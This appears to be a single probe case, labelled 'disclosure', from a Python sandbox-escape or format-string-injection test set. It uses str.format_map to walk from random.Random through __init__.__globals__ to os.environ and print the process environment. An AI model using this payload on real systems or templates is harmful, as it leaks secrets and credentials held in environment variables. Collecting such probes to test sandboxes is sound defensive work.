# kind: disclosure
# format_map, the same walk through a named field.
import random
print("ESCAPED", "{r.__init__.__globals__[_os].environ}".format_map({"r": random.Random}))
